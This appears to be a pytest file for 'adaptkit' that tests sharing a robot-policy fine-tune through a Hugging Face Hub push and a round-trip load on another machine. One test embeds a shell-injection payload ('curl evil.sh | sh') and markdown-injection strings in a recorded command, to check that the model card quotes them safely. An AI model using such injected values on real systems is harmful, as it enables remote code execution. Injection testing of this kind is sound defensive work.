"""Sharing a fine-tune (issue 34): push --dry-run → a fresh Hub cache on "another machine" (another
install prefix for the shipped base, another working folder, nothing of the first machine left)
→ load_policy, eval and export from hf://, actions equal to the original's. Also: the push folder
never replaces a folder adaptkit did not write (issue 35, item 1), and everything from a user is
quoted in the card (issue 35, item 7). The Hub cache is laid out by hand from its layout's facts
(helpers_hub); HF_HUB_OFFLINE=1, no network."""

from __future__ import annotations

import json
import shutil

import numpy as np
import pytest
from helpers_hub import folder_files, lay_out
from helpers_train import make_world
from typer.testing import CliRunner

import adaptkit
from adaptkit.ckpt import shipped
from adaptkit.cli import app

hub = pytest.importorskip("huggingface_hub")
COMMIT = "a" * 40


def _cli(*args: str, ok: bool = True):
    res = CliRunner().invoke(app, [str(a) for a in args])
    if ok:
        assert res.exit_code == 0, res.output
    return res


def _actions(policy, steps: int = 24) -> np.ndarray:
    rng = np.random.default_rng(0)
    policy.reset()
    out = []
    for t in range(steps):
        obs = rng.normal(size=policy.obs_dim).astype(np.float32)
        out.append(policy.act(obs, float(t % 3) * 0.1))
        if t == 12:
            policy.start_episode()
    return np.stack(out)


@pytest.fixture(scope="module")
def pushed(tmp_path_factory):
    """Machine A: a fine-tune of Mini Cheetah on the shipped base, run through the CLI as a
    user types it, then `push --dry-run --with-export`."""
    root = tmp_path_factory.mktemp("machine_a")
    paths = make_world(root)
    mp = pytest.MonkeyPatch()
    mp.chdir(root)
    try:
        _cli("finetune", "minicheetah", "--data-dir", paths["data"], "--save-dir", "models",
             "--name", "mc", "--epochs", "1", "--batch-size", "8", "--context-len", "8",
             "--lr", "0.003", "--no-eval")  # fmt: skip
        run = root / "models" / "mc"
        _cli("push", run, "hf://me/mc", "--dry-run", "--out", "push/mc", "--with-export")
        _cli("push", run, "hf://me/mc-full", "--dry-run", "--out", "push/full", "--what", "full")
        original = _actions(adaptkit.load_policy(run))
    finally:
        mp.undo()
    return {"root": root, "run": run, "folder": root / "push" / "mc",
            "full": root / "push" / "full", "actions": original}  # fmt: skip


def test_the_adapter_names_its_base_and_its_origins_portably(pushed):
    folder = pushed["folder"]
    cfg = json.loads((folder / "adapter_config.json").read_text())
    fp = cfg["base_fingerprint"]
    assert cfg["base_model_name_or_path"] == f"adaptkit:default@{fp[:16]}"
    assert cfg["base_model_path"] is None
    run = cfg["config"]
    assert run["robot"] == "minicheetah" and run["pretrained_path"].startswith("adaptkit:default@")
    assert run["robot_plugin"] == {"plugin": "minicheetah", "distribution": "adaptkit",
                                   "version": adaptkit.__version__}  # fmt: skip
    assert run["data"]["task"] == "minicheetah_walking_ad" and len(run["data"]["sha256"]) == 64
    assert run["data"]["histories"] == 2
    # the command as it was typed, not rebuilt
    assert run["command"].startswith("adaptkit finetune minicheetah --data-dir ")
    assert "--context-len 8 --lr 0.003 --no-eval" in run["command"]
    # beside the command, how the new group started (issue 33's --init auto probe)
    assert run["adaptkit_init"]["asked"] == "auto"
    init = run["adaptkit_init"]["init"]
    assert init == "fresh" or init.startswith("warm:")
    # nothing names a path of machine A
    for name in ("adapter_config.json", "README.md", "export/policy.pt.json"):
        assert str(shipped.SHIPPED_BASES) not in (folder / name).read_text(), name
    side = json.loads((folder / "export" / "policy.pt.json").read_text())
    assert side["checkpoint"] == "hf://me/mc" and side["robot"] == "minicheetah"


def test_the_card_parses_and_says_what_was_recorded(pushed):
    card = hub.ModelCard.load(pushed["folder"] / "README.md")
    data = card.data.to_dict()
    assert data["library_name"] == "adaptkit" and "base_model" not in data
    assert "model-index" not in data  # no evaluation of this model was recorded (--no-eval)
    text = card.text
    assert "- Base model: `adaptkit:default@" in text and "shipped inside adaptkit" in text
    assert "built into adaptkit" in text
    assert "- Command (recorded by the run):" in text
    assert "'adaptkit' 'finetune'" not in text  # plain words stay unquoted
    assert "adaptkit finetune minicheetah --data-dir" in text
    assert "- New group started: `" in text and "(asked: `auto`)" in text
    assert 'adaptkit.load_policy("hf://me/mc")' in text  # no robot to pass: it is recorded
    assert 'adaptkit.load_policy("hf://me/mc/export/policy.pt")' in text


def test_round_trip_on_another_machine(pushed, tmp_path, monkeypatch):
    """Machine B: the Hub cache holds the pushed files; adaptkit (and so its shipped base) is
    installed under another prefix; machine A's run, push folder and base are out of reach."""
    cache = tmp_path / "hf"
    lay_out(cache, "me/mc", COMMIT, folder_files(pushed["folder"]), ["main"])
    lay_out(cache, "me/mc-full", COMMIT, folder_files(pushed["full"]), ["main"])
    prefix = tmp_path / "prefix" / "site-packages" / "adaptkit" / "bases"
    shutil.copytree(shipped.SHIPPED_BASES, prefix)
    monkeypatch.setattr(shipped, "SHIPPED_BASES", prefix)
    hidden = pushed["root"].with_name(pushed["root"].name + "_gone")
    pushed["root"].rename(hidden)  # machine A's files are not on machine B
    try:
        work = tmp_path / "work"
        work.mkdir()
        monkeypatch.chdir(work)
        monkeypatch.setenv("HF_HUB_CACHE", str(cache))
        monkeypatch.setenv("HF_HUB_OFFLINE", "1")

        policy = adaptkit.load_policy("hf://me/mc")  # the robot comes from the adapter
        assert policy.robot.name == "minicheetah"
        assert str(prefix) in policy.describe()["base"]  # the base found under B's prefix
        np.testing.assert_array_equal(_actions(policy), pushed["actions"])
        full = adaptkit.load_policy("hf://me/mc-full")
        np.testing.assert_array_equal(_actions(full), pushed["actions"])
        exported = adaptkit.load_policy("hf://me/mc/export/policy.pt")
        np.testing.assert_allclose(_actions(exported), pushed["actions"], atol=1e-5)

        res = _cli("eval", "hf://me/mc", "--num-envs", "1", "--max-steps", "20", "--json")
        assert json.loads(res.stdout)["robot"] == "minicheetah"
        _cli("export", "hf://me/mc", "--out", "ex")
        np.testing.assert_allclose(
            _actions(adaptkit.load_policy(work / "ex" / "policy.pt")), pushed["actions"], atol=1e-5
        )
    finally:
        hidden.rename(pushed["root"])


def test_a_base_with_other_weights_is_refused(pushed, tmp_path, monkeypatch):
    """Machine B ships another default base (another adaptkit version): refused by name."""
    prefix = tmp_path / "bases"
    shutil.copytree(shipped.SHIPPED_BASES, prefix)
    prov = prefix / "default" / "provenance.json"
    prov.write_text(prov.read_text().replace('"fingerprint": "', '"fingerprint": "0'))
    monkeypatch.setattr(shipped, "SHIPPED_BASES", prefix)
    res = _cli("eval", pushed["folder"], "--num-envs", "1", "--max-steps", "5", ok=False)
    assert res.exit_code == 1 and "Traceback" not in res.output
    assert "shipped with this adaptkit has fingerprint" in " ".join(res.output.split())


# -- the push folder (issue 35, item 1) ------------------------------------------------------
@pytest.mark.parametrize(
    "case", ["readme_only", "readme_and_more", "working_folder", "run", "card_and_foreign_export"]
)
def test_push_never_replaces_a_folder_it_did_not_write(pushed, tmp_path, monkeypatch, case):
    monkeypatch.chdir(tmp_path)
    out = {"working_folder": tmp_path, "run": pushed["run"]}.get(case, tmp_path / "mine")
    out.mkdir(exist_ok=True)
    if case.startswith("readme"):
        (out / "README.md").write_text("# my project\n")
    if case == "readme_and_more":
        (out / "notes.txt").write_text("keep me")
        (out / "adapter_config.json").write_text("{}")
    if case == "card_and_foreign_export":  # adaptkit's card, but export/ holds a user's file
        (out / "README.md").write_bytes((pushed["folder"] / "README.md").read_bytes())
        (out / "export").mkdir()
        (out / "export" / "thesis.tex").write_text("mine")
    before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    res = _cli("push", pushed["run"], "hf://me/x", "--dry-run", "--out", out, ok=False)
    assert res.exit_code == 1 and "error: --out" in res.output, res.output
    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before


def test_an_earlier_push_folder_is_replaced(pushed, tmp_path):
    out = tmp_path / "again"
    _cli("push", pushed["run"], "hf://me/x", "--dry-run", "--out", out)
    _cli("push", pushed["run"], "hf://me/x", "--dry-run", "--out", out, "--what", "full")
    assert sorted(p.name for p in out.iterdir()) == [
        "README.md", "config.json", "metadata.json", "model.pth",
    ]  # fmt: skip


# -- quoting what comes from a user (issue 35, item 7) ---------------------------------------
def test_user_text_in_the_card_is_quoted(pushed, tmp_path):
    from adaptkit.share.card import cell, code, shell_word

    assert code("a`b") == "``a`b``" and code("x\ny") == "`x\\ny`"
    assert cell("a|b") == "`a\\|b`"
    assert shell_word("x`; curl evil.sh | sh #") == "'x`; curl evil.sh | sh #'"
    folder = tmp_path / "evil"
    shutil.copytree(pushed["run"] / "0001_epoch", folder / "0001_epoch")
    ckpt = folder / "0001_epoch"
    evil = "--robot x`; curl evil.sh | sh #\n```\n# injected"
    for name in ("config.json", "adapter_config.json"):
        raw = json.loads((ckpt / name).read_text())
        where = raw["config"] if name == "adapter_config.json" else raw
        where["command"] = f"adaptkit finetune {evil}"
        where["dataset_config_paths"] = ["a|b`c"]
        where.pop("data", None)
        (ckpt / name).write_text(json.dumps(raw))
    compare = {
        "runs": {
            "x | `y` <b>\n## z": {
                "policy": "model",
                "checkpoint": str(ckpt),
                "mean_return": 1.0,
                "std_return": 0.1,
            }
        }
    }
    (tmp_path / "c.json").write_text(json.dumps(compare))
    out = tmp_path / "out"
    _cli("push", ckpt, "hf://me/x", "--dry-run", "--out", out, "--eval", tmp_path / "c.json")
    text = (out / "README.md").read_text()
    bash = text.split("- Command (recorded by the run):\n\n```bash\n", 1)[1].split("\n```", 1)[0]
    assert "\n" not in bash  # one line: the block cannot be closed from inside
    # each word an argument of adaptkit: nothing else can run, even pasted into a shell
    assert bash == "adaptkit finetune --robot 'x`;' curl evil.sh '|' sh '#' '```' '#' injected"
    assert "\n## z" not in text and "\n# injected" not in text
    assert "`a\\|b`c`" not in text and "``a|b`c``" in text
    card = hub.ModelCard.load(out / "README.md")
    assert [r.metric_name for r in card.data.eval_results] == ["mean_reward (x | `y` <b>\n## z)"]


def test_data_adaptkit_collected_is_recorded_and_shown(tmp_path):
    """Histories adaptkit collected carry the collector's record in their task JSON (the facts
    sim/collect writes); the run records it and the card shows it instead of "not recorded"."""
    from helpers_train import write_task

    from adaptkit.data.provenance import data_record
    from adaptkit.share.card import _data_lines

    folder = write_task(tmp_path / "mc", 45, 12)
    collector = {"method": "continuous_noise_distillation", "expert": "trot", "histories": 2,
                 "steps_per_history": 120, "seed": 3, "sim": "mujoco", "task": "walk"}  # fmt: skip
    (folder / "mc.json").write_text(json.dumps({"task": "t", "collector": collector}))
    files = sorted(folder.glob("*.h5"))
    record = data_record("t", folder, "mc", [], files)
    assert record["collected_by"] == {"adaptkit": collector}
    assert record["dataset_config"] == "the robot plugin's entry" and record["histories"] == 2
    lines = _data_lines({"data": record})
    assert any(x.startswith("- Collected by adaptkit: `{") and '"seed": 3' in x for x in lines)
    (files[0]).write_bytes(files[0].read_bytes() + b"x")  # other bytes, another fingerprint
    assert data_record("t", folder, "mc", [], files)["sha256"] != record["sha256"]
